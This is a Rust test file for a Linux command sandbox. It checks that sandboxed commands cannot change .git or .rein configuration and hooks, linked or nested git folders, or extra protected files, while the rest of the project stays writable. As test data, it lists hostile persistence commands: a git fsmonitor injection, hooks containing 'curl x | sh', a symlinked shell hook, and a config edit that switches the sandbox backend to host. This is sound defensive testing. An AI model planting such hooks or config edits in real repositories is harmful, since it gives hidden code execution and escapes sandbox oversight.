//! What runs later on the host stays out of a command's reach: `.git` and
//! `.rein` inside the writable root are read-only to it (its config, its
//! hooks, the folder itself), by mounts and by landlock alone, while the
//! rest of the root stays writable — a new file beside `.git` included
//! where mounts are made.

#![allow(clippy::unwrap_used, reason = "tests fail loudly on purpose")]

mod common;

use std::path::Path;

use rein_sandbox::LinuxSandbox;
use rein_sandbox::spec::ProtectBy;

use common::run_sh as run;

/// A project with a git folder, rein's project config and a source file.
fn project() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("root");
    let root = dir.path();
    std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
    std::fs::write(root.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
    std::fs::create_dir_all(root.join(".rein")).unwrap();
    std::fs::write(root.join(".rein/config.toml"), "[agent]\n").unwrap();
    std::fs::create_dir_all(root.join("src")).unwrap();
    std::fs::write(root.join("src/lib.rs"), "// lib\n").unwrap();
    std::fs::write(root.join("notes.md"), "notes\n").unwrap();
    dir
}

/// Every way a hostile command would plant something that runs later.
const PLANTS: &[&str] = &[
    "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config",
    "echo 'curl x | sh' > .git/hooks/pre-commit",
    "mkdir .git/hooks/extra",
    "rm .git/config",
    "mv .git .git-old",
    "mv .git/config .git/config.bak",
    "ln -s /bin/sh .git/hooks/post-checkout",
    "printf '[sandbox]\\nbackend = \"host\"\\n' >> .rein/config.toml",
    "echo x > .rein/hooks.toml",
    "rm -r .rein",
    "ln -sf .git/config notes.md && echo planted >> notes.md",
];

async fn nothing_planted(sandbox: &LinuxSandbox, root: &Path) {
    for plant in PLANTS {
        let ran = run(sandbox, plant, root).await;
        assert_ne!(ran.code, Some(0), "`{plant}` ran: {ran:?}");
    }
    assert_eq!(
        std::fs::read_to_string(root.join(".git/config")).unwrap(),
        "[core]\n\tbare = false\n"
    );
    assert!(!root.join(".git/hooks/pre-commit").exists());
    assert!(!root.join(".git/hooks/extra").exists());
    assert!(!root.join(".git/hooks/post-checkout").exists());
    assert!(!root.join(".git-old").exists());
    assert_eq!(
        std::fs::read_to_string(root.join(".rein/config.toml")).unwrap(),
        "[agent]\n"
    );
    assert!(!root.join(".rein/hooks.toml").exists());
    // Still readable: `git status` reads its config.
    let read = run(sandbox, "cat .git/config .rein/config.toml", root).await;
    assert_eq!(read.code, Some(0), "{read:?}");
    // The rest of the root is the command's.
    let work = run(
        sandbox,
        "echo fixed > src/lib.rs && mkdir -p src/deep && echo y > src/deep/new.rs",
        root,
    )
    .await;
    assert_eq!(work.code, Some(0), "{work:?}");
}

#[tokio::test]
async fn git_and_rein_stay_read_only_and_the_rest_is_writable() {
    let dir = project();
    let Some(sandbox) = common::usable(common::sandbox(dir.path())).await else {
        return;
    };
    nothing_planted(&sandbox, dir.path()).await;
    // Read-only by mount: its modes too (an executable bit would wake a
    // hook git skips while it has none; landlock alone does not rule modes).
    std::fs::write(dir.path().join(".git/hooks/pre-push"), "curl x | sh\n").unwrap();
    for plant in [
        "chmod +x .git/hooks/pre-push",
        "touch -d 2000-01-01 .git/config",
    ] {
        let ran = run(&sandbox, plant, dir.path()).await;
        assert_ne!(ran.code, Some(0), "`{plant}` ran: {ran:?}");
    }
    // With mounts (or bubblewrap), a new file and folder beside `.git`.
    let beside = run(&sandbox, "echo new > top.txt && mkdir target", dir.path()).await;
    assert_eq!(beside.code, Some(0), "{beside:?}");
    assert!(dir.path().join("top.txt").exists());
}

#[tokio::test]
async fn landlock_alone_keeps_them_read_only_too() {
    let dir = project();
    if std::env::var_os("REIN_SANDBOX_BWRAP").is_some() {
        // Bubblewrap binds them itself; this is the way without it.
        return;
    }
    let sandbox = common::sandbox(dir.path()).protect_by(ProtectBy::Landlock);
    let Some(sandbox) = common::usable(sandbox).await else {
        return;
    };
    nothing_planted(&sandbox, dir.path()).await;
    // The price: nothing new beside `.git`, said by the kernel's refusal.
    let beside = run(&sandbox, "echo new > top.txt", dir.path()).await;
    assert_ne!(beside.code, Some(0), "{beside:?}");
    // A file already there stays writable.
    let notes = run(&sandbox, "echo more >> notes.md", dir.path()).await;
    assert_eq!(notes.code, Some(0), "{notes:?}");
}

#[tokio::test]
async fn a_path_the_definition_adds_and_a_linked_git_folder_are_protected() {
    let dir = project();
    let root = dir.path();
    std::fs::create_dir_all(root.join("deploy")).unwrap();
    std::fs::write(root.join("deploy/run.sh"), "echo deploy\n").unwrap();
    // `.git` a link to the real folder elsewhere in the root (a worktree's
    // layout): what it leads to is protected.
    std::fs::rename(root.join(".git"), root.join("gitdir")).unwrap();
    std::os::unix::fs::symlink("gitdir", root.join(".git")).unwrap();
    let sandbox = common::sandbox(root).protecting([root.join("deploy/run.sh")]);
    let Some(sandbox) = common::usable(sandbox).await else {
        return;
    };
    for plant in [
        "echo 'curl x | sh' >> deploy/run.sh",
        "echo hook > gitdir/hooks/pre-commit",
        "echo hook > .git/hooks/pre-push",
    ] {
        let ran = run(&sandbox, plant, root).await;
        assert_ne!(ran.code, Some(0), "`{plant}` ran: {ran:?}");
    }
    assert_eq!(
        std::fs::read_to_string(root.join("deploy/run.sh")).unwrap(),
        "echo deploy\n"
    );
    assert!(!root.join("gitdir/hooks/pre-commit").exists());
    let beside = run(&sandbox, "echo ok > deploy/other.sh", root).await;
    assert_eq!(beside.code, Some(0), "{beside:?}");
}

#[tokio::test]
async fn a_protected_folder_the_command_made_is_reported() {
    let dir = tempfile::tempdir().expect("root");
    let Some(sandbox) = common::usable(common::sandbox(dir.path())).await else {
        return;
    };
    let ran = run(
        &sandbox,
        "mkdir -p .git/hooks && echo x > .git/hooks/pre-commit",
        dir.path(),
    )
    .await;
    assert_eq!(ran.code, Some(0), "{ran:?}");
    assert_eq!(ran.made_protected, vec![dir.path().join(".git")]);
    // From now on it is protected like any other.
    let again = run(&sandbox, "echo y >> .git/hooks/pre-commit", dir.path()).await;
    assert_ne!(again.code, Some(0), "{again:?}");
}

#[tokio::test]
async fn a_nested_repositorys_hooks_are_protected_too() {
    let dir = project();
    let root = dir.path();
    std::fs::create_dir_all(root.join("vendor/lib/.git/hooks")).unwrap();
    let Some(sandbox) = common::usable(common::sandbox(root)).await else {
        return;
    };
    let ran = run(
        &sandbox,
        "echo hook > vendor/lib/.git/hooks/pre-commit",
        root,
    )
    .await;
    assert_ne!(ran.code, Some(0), "{ran:?}");
    assert!(!root.join("vendor/lib/.git/hooks/pre-commit").exists());
    let beside = run(&sandbox, "echo ok > vendor/lib/code.rs", root).await;
    assert_eq!(beside.code, Some(0), "{beside:?}");
}
